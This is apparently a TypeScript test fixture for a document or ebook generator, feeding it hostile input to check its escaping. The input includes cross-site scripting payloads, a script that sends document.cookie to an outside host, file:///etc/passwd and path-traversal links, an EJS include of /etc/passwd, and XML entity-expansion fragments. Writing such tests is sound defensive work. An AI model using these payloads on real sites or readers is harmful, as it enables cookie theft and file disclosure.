// Copy and metadata that break careless writers.
import type { Metadata } from '../../src/index.js'

export const one = '字'

/** Looks empty. Copy of nothing but blanks is refused before there is any book. */
export const nothing = '&nbsp;\n\n&#x3000;\n\n&#x200B;\n'

/** Markup characters, both quotes, an emoji, a line of EJS, and great length. */
const words = `& < > " ' 😀 <%= 1 %> ]]> ${'长'.repeat(280)}`

export const hostile: Metadata = {
  ...{ title: words, subtitle: words, newspaper: words, publisher: words, rights: words, source: words },
  ...{ description: words, subject: [words], date: '2025-12-30', issue: words },
  people: [{ name: words, role: '', relator: 'aut' }],
}

const attacks = String.raw`# <script>alert(1)</script>标题 & <%= process.exit() %> ]]>

<script>fetch('https://example.org/?' + document.cookie)</script>

<p onclick="alert(1)" style="position:fixed">点我</p>

[一](javascript:alert(1)) [二](<file:///etc/passwd>) [三](data:text/html,x) [四](../../etc/passwd) [五](VbScript:x)

![一](http://example.org/bug.gif) ![二](file:///etc/passwd) ![三](../../../etc/passwd) ![四](//example.org/a.png)

<img src="x" onerror="alert(1)"><iframe src="https://example.org"></iframe><object data="x"></object><embed src="x">

<svg onload="alert(1)"><use href="https://example.org/x.svg#a"/><foreignObject><body/></foreignObject></svg>

<style>@import url(https://example.org/x.css); p { background: url(https://example.org/y.png) }</style>

<link rel="stylesheet" href="https://example.org/x.css"><base href="https://example.org/"><meta http-equiv="refresh" content="0;url=https://example.org/">

<form action="https://example.org"><input name="a"><button>送</button></form>

<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]> &lol2; &xxe; &#0; &#xD800; &#x1F600;

<%= 1 + 1 %> <%- include('/etc/passwd') %> \u0000 <a href="jav&#x09;ascript:alert(1)">六</a> <math><mtext><script>alert(1)</script></mtext></math>

<p id="a1">同名</p><p id="a1">同名</p><p id="cover">同名</p><a name="toc">同名</a><a href="#nowhere">去</a>
`

/** All of the above, characters that XML cannot carry, and nesting as deep as it is not refused. */
export const untrusted = [
  attacks,
  `退\u0008格，非字符\uFFFE，反向\u202E文字\u202C。`,
  `${'> '.repeat(90)}深`,
  `${'<div>'.repeat(90)}深${'</div>'.repeat(90)}`,
  `${'*'.repeat(2_000)}着重${'*'.repeat(2_000)}`,
].join('\n\n')

/** What no file of text holds, so that it comes from programs alone. */
export const unspeakable = '空\u0000字符，半个字\uD800，另一半\uDC00，倒过来\uDC00\uD800。'
